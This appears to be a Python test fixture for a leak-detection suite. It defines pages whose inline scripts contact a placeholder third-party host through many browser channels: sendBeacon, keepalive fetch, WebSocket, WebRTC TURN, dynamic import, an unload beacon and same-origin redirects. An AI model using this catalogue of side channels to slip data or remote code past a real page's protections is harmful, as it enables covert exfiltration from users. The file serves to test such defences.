"""Pages whose scripts send requests themselves, and own addresses that lead elsewhere."""

from __future__ import annotations

from tests.leaklab.page import File, Page


def script(name: str, does: str, code: str) -> Page:
    return Page(name=name, does=does, body=f"<script @leak>{code}</script>")


AWAY = File(status=302, headers=(("location", "https://THIRD/away.html"),))

PAGES = (
    script("new-image", "`new Image()`", "new Image().src='https://THIRD/a'"),
    script("beacon", "`navigator.sendBeacon`", "navigator.sendBeacon('https://THIRD/a','x')"),
    script("fetch", "`fetch`, without CORS", "fetch('https://THIRD/a',{mode:'no-cors'}).catch(()=>{})"),
    script(
        "fetch-keepalive",
        "`fetch` with keepalive",
        "fetch('https://THIRD/a',{method:'POST',body:'x',keepalive:true}).catch(()=>{})",
    ),
    script(
        "fetch-later",
        "`fetchLater`",
        "fetchLater('https://THIRD/a',{activateAfter:0})",
    ),
    script("xhr", "`XMLHttpRequest`", "const x=new XMLHttpRequest();x.open('GET','https://THIRD/a');x.send()"),
    script("web-socket", "`WebSocket`", "new WebSocket('wss://THIRD/a')"),
    script("event-source", "`EventSource`", "new EventSource('https://THIRD/a')"),
    script(
        "stun",
        "WebRTC with a STUN server",
        "const c=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:PORT'}]});c.createDataChannel('a');"
        "c.createOffer().then(o=>c.setLocalDescription(o))",
    ),
    script(
        "turn",
        "WebRTC with a TURN server over TCP",
        "const c=new RTCPeerConnection({iceServers:[{urls:'turn:THIRD:3478?transport=tcp',username:'a',"
        "credential:'a'}]});c.createDataChannel('a');c.createOffer().then(o=>c.setLocalDescription(o))",
    ),
    script(
        "web-transport",
        "`WebTransport`",
        "const t=new WebTransport('https://THIRD:PORT/a');t.ready.catch(()=>{});t.closed.catch(()=>{})",
    ),
    script("dynamic-import", "`import()` of another host", "import('https://THIRD/a.js').catch(()=>{})"),
    script(
        "paint-worklet",
        "a worklet's module",
        "CSS.paintWorklet.addModule('https://THIRD/a.js').catch(()=>{})",
    ),
    Page(
        name="unload",
        does="a beacon when the page is left",
        body="<script @leak>addEventListener('pagehide',()=>navigator.sendBeacon('https://THIRD/bye','x'))</script>",
        act="leave",
    ),
    Page(
        name="redirected-image",
        does="an own address that redirects an image to another host",
        body="<img @leak src=OWN/go>",
        files={"go": AWAY},
    ),
    Page(
        name="redirected-script",
        does="an own address that redirects a script to another host",
        body="<script @leak src=OWN/go></script>",
        files={"go": AWAY},
    ),
    Page(
        name="redirected-fetch",
        does="an own address that redirects a fetch to another host",
        body="<script @leak>fetch('OWN/go',{mode:'no-cors'}).catch(()=>{})</script>",
        files={"go": AWAY},
    ),
    Page(
        windows=True,
        name="redirected-frame",
        does="an own address that redirects a frame to another host",
        body="<iframe @leak src=OWN/go></iframe>",
        files={"go": AWAY},
    ),
)
